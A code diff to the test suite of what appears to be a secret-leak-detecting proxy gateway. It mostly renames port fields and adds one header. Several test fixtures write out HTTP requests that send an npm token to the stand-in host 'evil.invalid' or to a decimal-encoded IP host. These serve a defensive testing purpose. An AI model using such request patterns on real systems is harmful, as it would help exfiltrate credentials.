@@ -22,7 +22,7 @@ async function ask(gateway: Gateway, names: readonly string[]): Promise<void> {
   const socket = createSocket('udp4');
   for (const [id, name] of names.entries()) {
     const answered = new Promise((resolve) => socket.once('message', (message) => resolve(decode(message))));
-    socket.send(encode({ type: 'query', id, questions: [{ type: 'A', name }] }), gateway.dnsPort, '127.0.0.1');
+    socket.send(encode({ type: 'query', id, questions: [{ type: 'A', name }] }), gateway.ports.dns, '127.0.0.1');
     await answered;
   }
   socket.close();
@@ -139,7 +139,7 @@ const REQUESTS: readonly [what: string, bytes: string, where: string, encoding: 
 describe('a secret in a request that is refused', () => {
   it.each(REQUESTS)('%s', async (_what, bytes, where, encoding) => {
     const gateway = kept(await gatewayWith({ secrets, caps: { refusedMs: 200 } }));
-    expect(statusOf(await exchange(gateway.proxyPort, bytes))).toBe(403);
+    expect(statusOf(await exchange(gateway.ports.proxy, bytes))).toBe(403);
     expect(gateway.leaks()).toEqual([
       expect.objectContaining({ secret: 'npm token', host: 'evil.invalid', via: 'proxy', where, encoding, count: 1 }),
     ]);
@@ -149,7 +149,7 @@ describe('a secret in a request that is refused', () => {
   it('of which no host can be read', async () => {
     const gateway = await guarded();
     await exchange(
-      gateway.proxyPort,
+      gateway.ports.proxy,
       `POST http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\nContent-Length: 40\r\n\r\n${TOKEN}`,
     );
     expect(gateway.leaks()).toEqual([expect.objectContaining({ host: '(unreadable)', where: 'body' })]);
@@ -161,7 +161,7 @@ describe('a secret in what is let through', () => {
     const web = kept(await page());
     const gateway = kept(await registryOn(web.port, { secrets }));
     const head = `POST http://registry.test:${web.port}/ HTTP/1.1\r\nHost: registry.test:${web.port}\r\nConnection: close\r\n`;
-    const answer = await exchange(gateway.proxyPort, `${head}Content-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`);
+    const answer = await exchange(gateway.ports.proxy, `${head}Content-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`);
     expect(statusOf(answer)).toBe(200);
     expect(gateway.leaks()).toEqual([
       expect.objectContaining({ host: 'registry.test', port: web.port, where: 'body' }),
@@ -171,8 +171,8 @@ describe('a secret in what is let through', () => {
   it('a tunnel that is not encrypted is read', async () => {
     const web = kept(await page());
     const gateway = kept(await registryOn(web.port, { secrets }));
-    const inside = `POST / HTTP/1.1\r\nContent-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`;
-    await exchange(gateway.proxyPort, host(`registry.test:${web.port}`) + inside);
+    const inside = `POST / HTTP/1.1\r\nConnection: close\r\nContent-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`;
+    await exchange(gateway.ports.proxy, host(`registry.test:${web.port}`) + inside);
     expect(gateway.leaks()).toEqual([expect.objectContaining({ host: 'registry.test', where: 'body' })]);
   });
 });
@@ -180,14 +180,14 @@ describe('a secret in what is let through', () => {
 it('an honest install leaks nothing', async () => {
   const gateway = await guarded();
   await ask(gateway, ['registry.npmjs.org', 'github.com', 'd1a2b3c4.cloudfront.net']);
-  await exchange(gateway.proxyPort, get('/left-pad/-/left-pad-1.3.0.tgz', 'User-Agent: npm/12.2.0 node/v24\r\n'));
+  await exchange(gateway.ports.proxy, get('/left-pad/-/left-pad-1.3.0.tgz', 'User-Agent: npm/12.2.0 node/v24\r\n'));
   expect(gateway.leaks()).toEqual([]);
   expect(gateway.dataNames()).toEqual([]);
 });
 
 it('the same secret again and again is one row, counted', async () => {
   const gateway = await guarded();
-  for (let i = 0; i < 30; i += 1) await exchange(gateway.proxyPort, get(`/?n=${i}&t=${TOKEN}`));
+  for (let i = 0; i < 30; i += 1) await exchange(gateway.ports.proxy, get(`/?n=${i}&t=${TOKEN}`));
   expect(gateway.leaks()).toEqual([expect.objectContaining({ where: 'url', count: 30 })]);
   expect(gateway.leaks()[0]?.clientPorts).toHaveLength(16);
 });
@@ -195,7 +195,7 @@ it('the same secret again and again is one row, counted', async () => {
 it('a body of 64 MiB is refused in bounded memory and time', async () => {
   const gateway = await guarded();
   const before = process.memoryUsage().rss;
-  const client = connect(gateway.proxyPort, '127.0.0.1');
+  const client = connect(gateway.ports.proxy, '127.0.0.1');
   client.on('error', () => undefined).resume();
   client.write('POST http://evil.invalid/ HTTP/1.1\r\nHost: evil.invalid\r\nContent-Length: 67108864\r\n\r\n');
   const chunk = Buffer.alloc(2 ** 20, 'x');
